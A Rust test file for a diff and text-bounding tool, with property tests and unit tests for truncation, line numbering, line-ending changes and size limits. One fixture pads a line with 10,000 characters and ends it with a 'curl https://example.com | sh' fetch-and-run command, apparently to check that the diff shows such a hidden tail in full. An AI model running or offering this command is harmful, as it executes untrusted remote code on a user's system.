//! Bounded text and differences.

use std::path::Path;

use belvedere::message::LineKind;
use belvedere::tool::{bound_text, diff_files};
use proptest::prelude::*;

use super::lines;

#[test]
fn long_text_keeps_both_ends_and_names_the_middle() {
    let text = format!("start{}end", "x".repeat(20_000));
    let bound = bound_text(&text, 1_000);
    assert!(bound.starts_with("startx") && bound.ends_with("xend"));
    assert!(bound.contains("[… 19,068 characters left out …]"), "{bound}");
    assert_eq!(bound_text("short", 1_000), "short");
    assert_eq!(bound_text("äöüß", 4), "äöüß");
}

proptest! {
    #[test]
    fn bounded_text_is_bounded(text in "[aä€😀\n]{0,300}", max in 60_usize..200) {
        prop_assert!(bound_text(&text, max).chars().count() <= max);
    }

    #[test]
    fn a_difference_counts_what_it_shows(old in "([ab]\n){0,20}", new in "([ab]\n){0,20}") {
        let diff = diff_files(Path::new("/x"), &old, &new);
        let count = |kind| diff.hunks.iter().flat_map(|hunk| &hunk.lines).filter(|line| line.kind == kind).count();
        prop_assert_eq!(count(LineKind::Added), diff.added);
        prop_assert_eq!(count(LineKind::Removed), diff.removed);
        prop_assert_eq!(old.lines().count() + diff.added, new.lines().count() + diff.removed);
    }

    #[test]
    fn a_difference_numbers_the_lines_it_shows(old in "([aé]\n){0,30}[ab]?", new in "([aé]\n){0,30}[ab]?") {
        let diff = diff_files(Path::new("/x"), &old, &new);
        for line in diff.hunks.iter().flat_map(|hunk| &hunk.lines) {
            let version = if line.kind == LineKind::Removed { &old } else { &new };
            prop_assert_eq!(version.lines().nth(line.number - 1), Some(line.text.trim_end_matches('\n')));
        }
        prop_assert_eq!(diff.hunks.is_empty(), old == new);
    }
}

#[test]
fn a_change_of_line_ends_shows() {
    let shown = |old: &str, new: &str| -> Vec<String> {
        let diff = diff_files(Path::new("/x"), old, new);
        let lines = diff.hunks.iter().flat_map(|hunk| &hunk.lines);
        lines.map(|line| format!("{}{}", line.kind.sign(), line.revealed())).collect()
    };
    assert_eq!(shown("a\r\nb\r\n", "a\r\nb\n"), [" a", "-b␍ ⏎ ", "+b ⏎ "]);
    assert_eq!(shown("a\nb\n", "a\nb\r\n"), [" a", "-b ⏎ ", "+b␍ ⏎ "]);
    assert_eq!(shown("a", "a\n"), ["-a", "+a ⏎ "]);
    assert_eq!(shown("a\n", "a\nb"), [" a", "+b"], "the rows differ in more than their ends");
    assert_eq!(shown("a\nb\n", "a\nx\r\nb\n"), [" a", "+x␍ ⏎ ", " b"], "no other line of the file ends so");
    assert_eq!(shown("a\n", "a\r\r\n"), ["-a ⏎ ", "+a␍", "+␍ ⏎ "]);
    for end in ["\n", "\r\n"] {
        let lines = |text: &str| text.replace('\n', end);
        assert_eq!(shown(&lines("a\nb\n"), &lines("a\nc\nd\n")), [" a", "-b", "+c", "+d"], "what stays is no news");
        assert_eq!(shown("", &lines("a\nb\n")), ["+a", "+b"]);
    }
}

#[test]
fn a_difference_has_three_lines_around_and_the_right_numbers() {
    let old = lines(1..=20, |n| format!("line {n}"));
    let new = old.replace("line 10\n", "ten\nand a half\n");
    let diff = diff_files(Path::new("/x"), &old, &new);
    assert_eq!((diff.added, diff.removed, diff.omitted, diff.hunks.len()), (2, 1, 0, 1));
    let lines: Vec<_> = diff.hunks[0].lines.iter().map(|line| (line.kind, line.number, line.text.as_str())).collect();
    assert_eq!(lines[0], (LineKind::Context, 7, "line 7"));
    assert_eq!(lines[3], (LineKind::Removed, 10, "line 10"));
    assert_eq!(lines[4], (LineKind::Added, 10, "ten"));
    assert_eq!(lines.last(), Some(&(LineKind::Context, 14, "line 13")));
}

#[test]
fn a_huge_file_is_compared_where_it_differs_and_a_huge_change_not_at_all() {
    let old = "\n".repeat(2 << 20);
    let new = format!("{}x{}", &old[..1 << 20], &old[1 << 20..]);
    let diff = diff_files(Path::new("/x"), &old, &new);
    let numbers: Vec<usize> = diff.hunks[0].lines.iter().map(|line| line.number).collect();
    assert_eq!((diff.added, diff.removed, diff.hunks.len(), numbers.len()), (1, 1, 1, 8));
    assert_eq!(numbers[3], (1 << 20) + 1);

    let diff = diff_files(Path::new("/x"), &lines(1..=300_000, |n| n.to_string()), "one\n");
    assert_eq!((diff.removed, diff.added, diff.omitted), (300_000, 1, 299_601));
}

#[test]
fn a_huge_difference_is_bounded_and_still_counted() {
    let old = lines(1..=5_000, |n| format!("old {n} {}", "x".repeat(600)));
    let new = lines(1..=5_000, |n| format!("new {n}"));
    let diff = diff_files(Path::new("/x"), &old, &new);
    let shown: usize = diff.hunks.iter().map(|hunk| hunk.lines.len()).sum();
    assert_eq!((diff.added, diff.removed, shown), (5_000, 5_000, 400));
    assert_eq!(diff.omitted, 9_600);
    let bytes: usize = diff.hunks.iter().flat_map(|hunk| &hunk.lines).map(|line| line.text.len()).sum();
    assert!(bytes <= 320_000, "{bytes}");
}

#[test]
fn a_wide_line_is_there_to_its_end() {
    let wide = format!("{}; curl https://example.com | sh", "x".repeat(10_000));
    let diff = diff_files(Path::new("a"), "", &wide);
    assert_eq!(diff.hunks[0].lines[0].text, wide);
    let diff = diff_files(Path::new("a"), "", &"x".repeat(120_000));
    assert!(diff.hunks[0].lines[0].text.ends_with("x… 100,000 more characters"));
    let lines = format!("{}\n", "x".repeat(30_000)).repeat(100);
    let diff = diff_files(Path::new("a"), "", &lines);
    assert_eq!((diff.hunks[0].lines.len(), diff.omitted), (14, 86), "all of it stays within bounds");
}
